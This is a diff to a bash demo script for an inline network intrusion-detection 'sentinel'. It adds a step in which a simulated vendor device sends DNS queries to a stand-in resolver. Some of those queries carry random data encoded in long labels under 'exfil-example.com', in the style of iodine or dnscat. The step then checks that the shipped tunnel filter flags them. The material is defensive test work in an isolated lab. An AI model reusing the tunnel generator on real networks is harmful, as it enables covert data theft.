@@ -4,7 +4,9 @@
 # for the vendor box's HG532 UPnP service (CVE-2017-17215) that the shipped signatures
 # drop and log to eve.json while ordinary HTTP keeps working, lets the vendor box try to call
 # home to an address its communication policy (board/demo/demo-policy.toml) does not list,
-# which the sentinel stops and logs, then stops the sentinel to show that it is inline: with
+# which the sentinel stops and logs, lets it smuggle data out in DNS queries to the resolver
+# it may use, which the shipped dns_tunnel eBPF filter flags while ordinary lookups pass
+# unremarked, then stops the sentinel to show that it is inline: with
 # it gone, the two sides cannot talk at all.
 #
 # Usage: demo.sh SENTINEL_BINARY        (as root; ends by itself in well under a minute)
@@ -48,6 +50,11 @@ readonly METRICS_LISTEN=127.0.0.1:9752
 # on core's side (TEST-NET-3, on-link for the vendor box). The policy's default is drop.
 readonly HOME_NET=203.0.113.0/24 HOME_V4=203.0.113.10 HOME_PORT=80 POLICY_SID=1000001
 readonly CALL_HOME_TIMEOUT_S=4
+# The resolver the vendor box may query (an [[allow]] of the demo policy), and the sid of the
+# shipped DNS-tunnel filter (config/rules.d/covert-channels.toml, gid 3).
+readonly DNS_PORT=53 DNS_TUNNEL_SID=3000002
+# The shipped C filters, as this build made them (the objects the rules name).
+FILTERS_DIR=$(realpath -m "$(dirname "$SENTINEL")/../bpf")
 
 # Headings in bold when a human is watching.
 if [[ -t 1 ]]; then B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' N=$'\e[0m'; else B='' G='' R='' N=''; fi
@@ -69,6 +76,7 @@ http_pid=''
 curl_pid=''
 upnp_pid=''
 home_pid=''
+dns_pid=''
 
 # Stop a background process we started: TERM, up to $2 seconds' grace, then KILL.
 stop_pid() {
@@ -92,6 +100,7 @@ cleanup() {
     [[ -z $curl_pid ]] || stop_pid "$curl_pid" 2
     [[ -z $upnp_pid ]] || stop_pid "$upnp_pid" 2
     [[ -z $home_pid ]] || stop_pid "$home_pid" 2
+    [[ -z $dns_pid ]] || stop_pid "$dns_pid" 2
     printf '\n%s[teardown]%s removing the virtual board\n' "$B" "$N"
     "$TOPOLOGY" down "" 2>&1 | indent || true
     rm -rf "$tmp/www" "$tmp/download.bin"
@@ -136,9 +145,11 @@ vendor_nets = ["$VENDOR_V4/32", "$VENDOR_V6/128"]
 
 [rules]
 # The shipped signatures; no compiled-database cache, so the demo leaves nothing behind.
-# The communication policy comes with -s (board/demo/demo-policy.toml).
+# The communication policy comes with -s (board/demo/demo-policy.toml). The eBPF filters
+# the shipped rules name are found in this build's directory.
 dir = "$RULES_DIR"
 cache_dir = ""
+filters_dir = "$FILTERS_DIR"
 EOF
 say "$tmp/sentinel.toml:"
 indent <"$tmp/sentinel.toml"
@@ -507,12 +518,100 @@ else
     fail "no policy alert for $HOME_V4:$HOME_PORT in eve.json within ${ALERT_TIMEOUT_S} s"
 fi
 
+step "The vendor box smuggles data out in DNS queries to the resolver it may use"
+say "a stand-in resolver on core ($CORE_V4:$DNS_PORT/udp) that logs each query reaching it"
+cat >"$tmp/resolver.py" <<'EOF'
+import socket
+import sys
+
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+sock.bind((sys.argv[1], int(sys.argv[2])))
+with open(sys.argv[3], "a", encoding="utf-8") as log:
+    while True:
+        data, peer = sock.recvfrom(4096)
+        log.write(f"{peer[0]} {len(data)}\n")
+        log.flush()
+EOF
+# DNS queries for A records from the vendor box; argv[3:] are the names.
+cat >"$tmp/query.py" <<'EOF'
+import socket
+import struct
+import sys
+
+server, port = sys.argv[1], int(sys.argv[2])
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for n, name in enumerate(sys.argv[3:]):
+    qname = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
+    sock.sendto(struct.pack("!HHHHHH", 0x1000 + n, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1),
+                (server, port))
+EOF
+# The alerts of the DNS-tunnel filter in eve.json: their count, or with "print" the lines.
+cat >"$tmp/dns_alerts.py" <<'EOF'
+import json
+import sys
+
+lines = []
+try:
+    with open(sys.argv[1], encoding="utf-8") as f:
+        for line in f:
+            try:
+                e = json.loads(line)
+            except ValueError:
+                continue  # a line still being written
+            if e.get("event_type") == "alert" and e["alert"]["gid"] == 3 \
+                    and e["alert"]["signature_id"] == int(sys.argv[2]):
+                lines.append(line)
+except FileNotFoundError:
+    pass
+print("".join(lines), end="") if sys.argv[3:] == ["print"] else print(len(lines))
+EOF
+dns_alerts() { "$PYTHON" "$tmp/dns_alerts.py" "$tmp/log/eve.json" "$DNS_TUNNEL_SID" "$@"; }
+: >"$tmp/resolver.log"
+ip netns exec "$CORE_NS" "$PYTHON" "$tmp/resolver.py" "$CORE_V4" "$DNS_PORT" "$tmp/resolver.log" \
+    >"$tmp/resolver.out" 2>&1 </dev/null &
+dns_pid=$!
+sleep 0.3
+kill -0 "$dns_pid" 2>/dev/null || { indent <"$tmp/resolver.out"; die "the stand-in resolver did not start"; }
+ordinary=(update.vendor.example.com ntp.example.org www.example.net)
+# What an iodine- or dnscat-style tunnel sends: data encoded into long random-looking labels.
+tunnel=()
+for i in 1 2 3; do
+    chunk=$(head -c 40 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
+    tunnel+=("${chunk:0:60}.s${i}.t.exfil-example.com")
+done
+say "ordinary lookups: ${ordinary[*]}"
+say "tunnel queries, e.g. ${tunnel[0]}"
+cmd ip netns exec "$VENDOR_NS" python3 query.py "$CORE_V4" "$DNS_PORT" '<3 ordinary names>' '<3 tunnel names>'
+ip netns exec "$VENDOR_NS" "$PYTHON" "$tmp/query.py" "$CORE_V4" "$DNS_PORT" "${ordinary[@]}" "${tunnel[@]}"
+sent=$(( ${#ordinary[@]} + ${#tunnel[@]} ))
+deadline=$((SECONDS + ALERT_TIMEOUT_S))
+until (( $(dns_alerts) >= ${#tunnel[@]} && $(wc -l <"$tmp/resolver.log") >= sent )) || (( SECONDS >= deadline )); do
+    sleep 0.2
+done
+sleep 0.5  # an alert for an ordinary lookup would come with the others
+received=$(wc -l <"$tmp/resolver.log")
+flagged=$(dns_alerts)
+say "the filter's alert for the first tunnel query, as eve.json has it:"
+dns_alerts print | head -n 1 | indent
+if (( received == sent )); then
+    pass "all $received queries reached the resolver (the shipped filter's action is alert: it reports, it does not cut)"
+else
+    fail "the resolver received $received of $sent queries"
+fi
+if (( flagged == ${#tunnel[@]} )); then
+    pass "dns_tunnel flagged exactly the ${#tunnel[@]} tunnel queries (gid 3, sid $DNS_TUNNEL_SID), none of the ordinary lookups"
+else
+    fail "dns_tunnel raised $flagged alert(s); expected ${#tunnel[@]}, one per tunnel query"
+fi
+stop_pid "$dns_pid" 2; dns_pid=''
+
 step "What Prometheus sees: the sentinel's /metrics (management address $METRICS_LISTEN)"
 cmd curl -s "http://$METRICS_LISTEN/metrics"
 if metrics=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics"); then
     grep -E '^sentinel_(packets_total|port_up|drops_total\{reason="(tx_full|signature|flow_blocked|bad_checksum|policy|spoofed_source)")' \
         <<<"$metrics" | indent
-    grep -E '^sentinel_(rules_loaded|alerts_total|policy_flows_total)' <<<"$metrics" | awk '$2 != 0' | indent
+    grep -E '^sentinel_(rules_loaded|alerts_total|policy_flows_total|filter_matches_total)' <<<"$metrics" \
+        | awk '$2 != 0' | indent
     forwarded=$(awk '/^sentinel_packets_total\{direction="to_core",verdict="forwarded"\}/ {print $2}' <<<"$metrics")
     if [[ -n $forwarded && $forwarded != 0 ]]; then
         pass "the metrics count the frames that crossed ($forwarded to_core)"
@@ -531,6 +630,12 @@ if metrics=$(curl -sf --max-time 5 "http://$METRICS_LISTEN/metrics"); then
         pass "the metrics count the call home: $violations policy violation(s), $by_policy frame(s) dropped (reason policy)"
     else
         fail "the metrics show no policy violation or drop (violations ${violations:-absent}, drops ${by_policy:-absent})"
+    fi
+    filter_alerts=$(awk '/^sentinel_filter_matches_total\{action="alert"\}/ {print $2}' <<<"$metrics")
+    if [[ -n $filter_alerts ]] && (( filter_alerts >= ${#tunnel[@]} )); then
+        pass "the metrics count the tunnel queries: $filter_alerts filter match(es) with action alert"
+    else
+        fail "the metrics show ${filter_alerts:-no} filter match(es) with action alert; expected ${#tunnel[@]} or more"
     fi
 else
     fail "no /metrics at $METRICS_LISTEN"
